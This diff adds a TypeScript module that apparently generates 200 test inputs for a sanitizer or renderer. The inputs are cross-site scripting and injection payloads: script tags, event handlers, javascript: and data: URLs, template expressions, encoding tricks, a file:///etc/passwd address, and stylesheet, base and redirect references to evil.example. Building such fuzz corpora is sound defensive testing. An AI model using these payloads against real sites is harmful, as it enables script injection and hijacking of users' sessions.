@@ -1,0 +1,85 @@
+/** Two hundred texts that try to become code: tags, handlers, addresses, encodings, templates, and mixtures of them. */
+
+const CALL = 'alert(1)';
+const MARKUP = [
+  `<script>${CALL}</script>`,
+  `<img src=x onerror=${CALL}>`,
+  `<svg onload=${CALL}>`,
+  `<svg><script>${CALL}</script></svg>`,
+  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
+  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
+  `<iframe src="javascript:${CALL}"></iframe>`,
+  `<body onload=${CALL}>`,
+  `<details open ontoggle=${CALL}>`,
+  `<input autofocus onfocus=${CALL}>`,
+  `<select autofocus onfocus=${CALL}>`,
+  `<textarea autofocus onfocus=${CALL}>`,
+  `<video><source onerror="${CALL}">`,
+  `<audio src=x onerror=${CALL}>`,
+  `<object data="javascript:${CALL}">`,
+  `<embed src="javascript:${CALL}">`,
+  `<form action="javascript:${CALL}"><button>`,
+  `<button formaction="javascript:${CALL}">x`,
+  `<math href="javascript:${CALL}">x</math>`,
+  `<a href="javascript:${CALL}">x</a>`,
+  `<a href="data:text/html,<script>${CALL}</script>">x</a>`,
+  `<a href=" javascript:${CALL}">x</a>`,
+  `<base href="https://evil.example/">`,
+  `<link rel=stylesheet href="https://evil.example/x.css">`,
+  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
+  `<style>@import "https://evil.example/x.css";</style>`,
+  `<div style="background:url(https://evil.example/x)">`,
+  `<marquee onstart=${CALL}>`,
+  `<template><script>${CALL}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
+];
+const ADDRESSES = [
+  `javascript:${CALL}`,
+  `JaVaScRiPt:${CALL}`,
+  `java\tscript:${CALL}`,
+  `java\nscript:${CALL}`,
+  `\u0001javascript:${CALL}`,
+  `vbscript:msgbox(1)`,
+  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
+  `https://evil.example/"onmouseover="${CALL}`,
+  `https://evil.example/'onfocus='${CALL}' autofocus='`,
+  `http://[::1]:99999/`,
+  `https://user:pass@evil.example/`,
+  `https://evil.example/\u202Egnp.exe`,
+  `mailto:a@b.example?subject=<script>${CALL}</script>`,
+  `blob:https://evil.example/1`,
+  `file:///etc/passwd`,
+];
+const TEMPLATES = [
+  '${alert(1)}',
+  '{{constructor.constructor("alert(1)")()}}',
+  '{{7*7}}',
+  '#{7*7}',
+  '<%= 7*7 %>',
+  '<!--?lit$123456789$-->',
+  '<!--lit-part--><!--/lit-part-->',
+  '?lit$000000000$',
+  ']]><script>alert(1)</script>',
+  '--><script>alert(1)</script><!--',
+  '\u0000<script>alert(1)</script>',
+  '\uFEFF<script>alert(1)</script>',
+  '＜script＞alert(1)＜/script＞',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;img src=x onerror=alert(1)&#62;',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
+  '__proto__',
+  'constructor',
+  '\u202E\u2066<script>alert(1)</script>',
+];
+const AROUND: ((text: string) => string)[] = [
+  (text) => text,
+  (text) => `"><${'b'}>${text}`,
+  (text) => `' autofocus onfocus=alert(1) x='${text}`,
+  (text) => `- ${text}\n- ${text}`,
+];
+
+/** Exactly 200, each another. */
+export const PAYLOADS: readonly string[] = [...MARKUP, ...ADDRESSES, ...TEMPLATES]
+  .flatMap((text) => AROUND.map((around) => around(text)))
+  .slice(0, 200);
